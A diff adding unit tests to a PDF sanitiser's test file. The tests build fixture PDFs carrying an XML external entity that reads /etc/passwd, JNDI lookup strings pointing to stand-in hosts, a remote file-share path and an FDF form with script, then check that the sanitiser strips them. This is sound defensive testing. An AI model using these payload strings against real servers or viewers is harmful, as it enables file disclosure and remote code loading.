@@ -13,6 +13,7 @@ import { encryptWithQpdf } from "../../pdf/testing/qpdf-encrypt";
 import { analyzeFast } from "../analyze";
 import { sfntFont } from "../facts/formats/testing/format-fixtures";
 import { wordWebArchive } from "../embedded/testing/embedded-fixtures";
+import { fdfFile } from "../techniques/testing/fixture-documents";
 import { disarmPdf, type DisarmResult } from "./disarm-pdf";
 
 type Disarmed = Extract<DisarmResult, { ok: true }>;
@@ -306,6 +307,56 @@ describe("disarmPdf removes each kind of active content", () => {
     // a comment whose '<' is prose is not markup: copied as it was
     expect(text(r.bytes)).toContain("(Totals are < 5% off)");
     expect(reanalyse(r.bytes).result.findings.map((f) => f.ruleId)).not.toContain("web-viewer-script-injection");
+  });
+
+  it("defuses payloads for document servers: a lookup's '$' is blanked, XML metadata with an external entity is left out", () => {
+    const b = new PdfBuilder();
+    const xmp = b.addStream(
+      "/Type /Metadata /Subtype /XML",
+      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x:xmpmeta xmlns:x="adobe:ns:meta/"/>`,
+    );
+    // the title in UTF-16BE: "${jndi:ldap://logs.example/a}"
+    const title = Buffer.from("\ufeff${jndi:ldap://logs.example/a}", "utf16le").swap16().toString("hex");
+    b.info = b.add(`<< /Title <${title}> /Author (\${jndi:rmi://logs.example/o}) /Subject (costs in \${currency}) >>`);
+    withPage(b, `/Metadata ${xmp} 0 R`);
+    const input = b.build();
+    const before = analyzeFast(input, { fileName: "x.pdf" }).findings.map((f) => f.ruleId);
+    expect(before).toEqual(expect.arrayContaining(["server-lookup-injection", "metadata-external-entity"]));
+    const r = disarm(input);
+    expect(r.removed.filter((x) => x.kind === "payload").map((x) => x.what)).toEqual(
+      expect.arrayContaining(["Title string", "Author string", "XML metadata"]),
+    );
+    expect(text(r.bytes)).toContain("( {jndi:rmi://logs.example/o})");
+    // a placeholder that is no lookup of a server is copied as it was
+    expect(text(r.bytes)).toContain("(costs in ${currency})");
+    const after = reanalyse(r.bytes).result.findings.map((f) => f.ruleId);
+    expect(after).not.toContain("server-lookup-injection");
+    expect(after).not.toContain("metadata-external-entity");
+  });
+
+  it("leaves out a file share or web address named by any file specification, even where a damaged owner no longer says what it is", () => {
+    const b = new PdfBuilder();
+    // a file attachment annotation whose /Subtype was lost: its /FS still names the share
+    const note = b.add(
+      `<< /Type /Annot /Rect [0 0 10 10] /FS << /Type /Filespec /F (\\\\\\\\files.example\\\\share\\\\a.pdf) >> >>`,
+    );
+    withPage(b, "", `/Annots [${note} 0 R]`);
+    const input = b.build();
+    expect(analyzeFast(input, { fileName: "x.pdf" }).findings.map((f) => f.ruleId)).toContain("remote-file-target");
+    const r = disarm(input);
+    expect(r.removed.filter((x) => x.kind === "external-content").map((x) => x.what)).toEqual(["/F"]);
+    expect(text(r.bytes)).not.toContain("files.example");
+    expect(reanalyse(r.bytes).result.findings.map((f) => f.ruleId)).not.toContain("remote-file-target");
+  });
+
+  it("disarms an FDF file: the document it opens and its scripts are left out", () => {
+    const input = fdfFile(`/F (https://forms.example/claim.pdf) /JavaScript << /Before (app.alert\\(1\\)) >>`);
+    const r = disarm(input);
+    expect(r.removed.map((x) => x.what)).toEqual(expect.arrayContaining(["FDF /F"]));
+    expect(text(r.bytes)).not.toContain("forms.example");
+    expect(text(r.bytes)).not.toContain("app.alert");
+    const after = reanalyse(r.bytes).result.findings.filter((f) => ACTIVE_CATEGORIES.includes(f.category));
+    expect(after).toEqual([]);
   });
 
   it("compresses a stream that holds a Word web archive in the clear, so Word no longer opens the copy as that document", () => {
